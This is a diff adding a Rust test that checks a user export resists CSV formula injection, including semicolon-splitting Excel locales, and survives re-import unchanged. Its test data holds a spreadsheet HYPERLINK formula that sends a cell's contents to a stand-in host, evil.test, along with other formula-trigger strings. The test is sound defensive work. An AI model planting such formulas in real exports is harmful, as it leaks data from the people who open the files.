@@ -402,6 +402,43 @@ fn an_export_has_no_hashes_and_no_spreadsheet_formulas() {
     assert_eq!(names(&other), names(&site));
 }
 
+/// Excel in Turkish splits the lines of a file at semicolons, also within quotation marks that begin
+/// in the middle of a cell.
+#[test]
+fn an_export_has_no_formulas_after_semicolons_and_is_imported_with_the_same_values() {
+    let site = Site::new();
+    let names = [
+        "x;=HYPERLINK(\"http://evil.test/?\"&A1,\"open\");y",
+        "x;\"=1&\";@a; +b",
+        "'=kept",
+        "x;''=kept",
+        "plain; O'Neil - 1",
+    ];
+    // Set by a command, because an import removes the apostrophes.
+    for (number, name) in names.iter().enumerate() {
+        let address = format!("u{number}@example.test");
+        site.json_with(&CSV, &format!("email,name\n{address},N\n"));
+        site.json(&["user", "set", &address, "--name", name, "--add-group", "g;=1+1"]);
+    }
+    let table = site.text(&["user", "export"]);
+    let formulas = |table: &str| -> Vec<String> {
+        let cells = table.split([';', '\t', '\r', '\n']).map(|cell| cell.trim_start_matches(['"', ' ']));
+        cells.filter(|cell| cell.starts_with(['=', '+', '-', '@'])).map(str::to_owned).collect()
+    };
+    assert_eq!(formulas(&table), [""; 0]);
+    let other = Site::new();
+    let rows: Vec<Vec<&str>> = table.lines().skip(1).map(|line| line.split("\",\"").collect()).collect();
+    let again = rows.iter().map(|row| format!("\"{}\",\"{}\",\"{}\"\n", row[1], row[3], row[7]));
+    other.json_with(&CSV, &format!("email,name,groups\n{}", again.collect::<String>()));
+    for (number, name) in names.iter().enumerate() {
+        let user = other.json(&["user", "show", &format!("u{number}@example.test")]);
+        assert_eq!((&user["name"], &user["groups"]), (&json!(name), &json!(["g;=1+1"])));
+    }
+    // The events of these changes name the group.
+    let events = site.text(&["audit", "export", "--to", "-", "--format", "csv"]);
+    assert!(events.contains("group added g;'=1+1") && formulas(&events).is_empty(), "{events}");
+}
+
 #[test]
 fn help_describes_the_accepted_files() {
     let site = Site::new();
